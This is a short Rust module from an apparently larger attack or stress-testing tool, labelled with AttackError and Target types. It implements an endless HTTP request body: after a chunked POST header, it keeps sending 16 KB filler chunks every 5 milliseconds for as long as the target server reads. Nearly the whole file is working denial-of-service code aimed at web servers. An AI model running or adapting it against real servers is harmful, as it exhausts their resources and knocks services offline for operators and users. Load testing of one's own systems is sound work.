//! Bodies without end: chunk after chunk, for as long as the server reads.

use std::time::Duration;

use super::connections::{Script, held, post};
use super::requests::Requests;
use super::{AttackError, Target};

const CHUNK: usize = 16 << 10;

pub(super) fn start(target: &Target) -> Result<Requests, AttackError> {
    let (url, to) = target.plain_http()?;
    let first = format!("{}Transfer-Encoding: chunked\r\n\r\n", post(&url, target)).into_bytes();
    let mut then = format!("{CHUNK:x}\r\n").into_bytes();
    then.resize(then.len() + CHUNK, b'a');
    then.extend_from_slice(b"\r\n");
    held(target, "big-bodies", to, vec![Script { first, then, every: Duration::from_millis(5) }])
}
